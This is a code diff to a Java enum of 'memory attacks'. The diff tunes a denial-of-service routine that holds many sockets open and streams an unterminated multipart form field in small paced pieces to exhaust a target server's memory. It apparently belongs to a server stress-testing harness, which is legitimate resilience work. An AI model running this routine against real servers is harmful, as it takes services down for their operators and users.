@@ -39,8 +39,9 @@ enum MemoryAttack {
         }
     },
 
-    /// Posts one field of a form without an end, and many that stop just before it is too long.
-    MULTIPART_FIELD(40) {
+    /// Posts one field of a form without an end, and many that stop just before it is too long, in
+    /// pieces: to make a server hold much takes little of a line.
+    MULTIPART_FIELD(320) {
         @Override
         void run(InetSocketAddress target, Pace pace) throws IOException {
             byte[] begin =
@@ -49,13 +50,16 @@ enum MemoryAttack {
                                     + " multipart/form-data; boundary=B\r\n"
                                     + "Content-Length: 200000000\r\n\r\n"
                                     + "--B\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n");
-            byte[] most = new byte[(2 << 20) - 1];
-            Arrays.fill(most, (byte) 'x');
+            byte[] piece = new byte[(64 << 10) - 1];
+            Arrays.fill(piece, (byte) 'x');
             try (Held held = new Held(150)) {
-                for (int i = 0; pace.next(); i++) {
+                for (int i = 0; pace.goesOn(); i++) {
                     Socket socket = held.open(target);
-                    tryWrite(socket, begin);
-                    for (int n = 0; n < (i % 20 == 0 ? 100 : 1) && tryWrite(socket, most); n++) {}
+                    boolean open = tryWrite(socket, begin);
+                    int pieces = i % 20 == 0 ? 3_000 : 32;
+                    for (int n = 0; open && n < pieces && pace.next(); n++) {
+                        open = tryWrite(socket, piece);
+                    }
                 }
             }
         }
